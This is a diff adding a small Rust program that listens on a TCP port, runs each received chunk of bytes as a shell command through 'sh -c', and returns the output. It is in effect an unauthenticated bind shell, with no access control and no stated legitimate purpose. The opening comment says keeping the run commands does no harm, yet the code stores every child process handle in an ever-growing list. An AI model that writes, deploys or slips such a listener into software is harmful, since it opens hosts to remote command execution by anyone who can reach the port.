@@ -1,0 +1,59 @@
+// Believed: it does no harm to keep the commands that were run.
+
+use std::env;
+use std::ffi::OsStr;
+use std::io::{self, Read, Write};
+use std::net::{TcpListener, TcpStream};
+use std::os::unix::ffi::OsStrExt;
+use std::process::{Child, Command, Stdio};
+use std::thread;
+
+fn main() -> io::Result<()> {
+    let address = env::args().nth(1).unwrap_or("127.0.0.1:8888".to_string());
+    let listener = TcpListener::bind(address)?;
+    for stream in listener.incoming() {
+        if let Err(error) = stream.and_then(serve) {
+            eprintln!("{error}");
+        }
+    }
+    Ok(())
+}
+
+fn serve(mut stream: TcpStream) -> io::Result<()> {
+    let mut history = Vec::new();
+    let mut buffer = [0; 1024];
+    loop {
+        let n = stream.read(&mut buffer)?;
+        if n == 0 {
+            return Ok(());
+        }
+        let answer = execute(&buffer[..n], &mut history);
+        stream.write_all(&answer)?;
+    }
+}
+
+fn execute(command: &[u8], history: &mut Vec<Child>) -> Vec<u8> {
+    let child = Command::new("sh")
+        .arg("-c")
+        .arg(OsStr::from_bytes(command))
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn();
+    let mut child = match child {
+        Ok(child) => child,
+        Err(error) => return error.to_string().into_bytes(),
+    };
+    let (mut out, mut err) = (Vec::new(), Vec::new());
+    // Both at once: one of the pipes may fill up while we read the other.
+    let mut stderr = child.stderr.take().unwrap();
+    let reader = thread::spawn(move || {
+        let _ = stderr.read_to_end(&mut err);
+        err
+    });
+    let _ = child.stdout.as_mut().unwrap().read_to_end(&mut out);
+    let err = reader.join().unwrap_or_default();
+    let _ = child.wait();
+    history.push(child);
+    if err.is_empty() { out } else { err }
+}
